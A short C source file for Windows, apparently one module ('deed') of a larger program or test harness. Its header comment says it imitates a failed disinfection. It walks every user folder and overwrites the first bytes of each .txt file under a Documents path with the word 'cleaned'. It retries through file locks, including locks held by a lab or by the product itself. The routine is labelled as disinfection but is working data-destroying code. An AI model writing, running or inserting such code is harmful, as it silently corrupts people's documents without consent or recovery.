/* Writes a mark of its own into every text file of the user's, as a failed disinfection does. */
#include "deed.h"

#include <wchar.h>

enum { DISINFECT_TRIES = 40, DISINFECT_RETRY_MS = 250 };

static void disinfect_one(const wchar_t *path)
{
    const wchar_t *dot = wcsrchr(path, L'.');
    HANDLE file = INVALID_HANDLE_VALUE;
    DWORD done;

    if (!dot || _wcsicmp(dot, L".txt") != 0 || !wcsstr(path, L"Documents"))
        return;
    /* Somebody may be reading it: the lab, or this very product. */
    for (int tries = 0; file == INVALID_HANDLE_VALUE && tries < DISINFECT_TRIES; tries++) {
        file = CreateFileW(path, GENERIC_WRITE, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
        if (file == INVALID_HANDLE_VALUE && GetLastError() != ERROR_SHARING_VIOLATION)
            return;
        if (file == INVALID_HANDLE_VALUE)
            Sleep(DISINFECT_RETRY_MS);
    }
    if (file == INVALID_HANDLE_VALUE)
        return;
    WriteFile(file, "cleaned", 7, &done, NULL);
    CloseHandle(file);
}

void deed_run(void)
{
    deed_each_file(L"C:\\Users", 10, disinfect_one);
}
